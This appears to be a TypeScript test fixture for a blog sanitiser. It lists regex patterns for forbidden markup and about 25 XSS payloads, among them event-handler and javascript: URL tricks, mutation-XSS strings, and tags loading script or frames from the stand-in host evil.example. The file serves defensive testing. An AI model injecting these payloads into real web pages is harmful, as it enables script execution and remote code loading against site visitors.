/** XSS payloads for the blog sanitiser tests (unit and API integration). */

/** Markup that must never survive the allow-list, whatever the input. */
export const FORBIDDEN = [/<script/i, /<style/i, /<iframe/i, /<svg/i, /<math/i, /<object/i, /<embed/i, /<form/i, /<input/i, /<base/i, /<meta/i, /\son\w+\s*=/i, /javascript:/i, /vbscript:/i, /data:/i, /style=/i];

/** XSS payloads, as an author could paste them into Markdown (shared with the API integration test). */
export const XSS_PAYLOADS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  '<img src="/images/blog/x.svg" onload="alert(1)">',
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  '<a href="&#106;avascript:alert(1)">entity</a>',
  '<a href=" javascript:alert(1)">space</a>',
  '<a href="java\tscript:alert(1)">tab</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
  "![pixel](data:image/png;base64,iVBORw0KGgo=)",
  '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
  "<svg onload=alert(1)><circle r=1 /></svg>",
  '<iframe src="https://evil.example"></iframe>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  "<style>body{display:none}</style>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<details open ontoggle=alert(1)>x</details>",
  '<form action="https://evil.example"><input autofocus onfocus=alert(1)></form>',
  '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<a href="https://example.com" onclick="alert(1)" style="color:red">styled link</a>',
  '<div onmouseover="alert(1)">hover</div>',
];
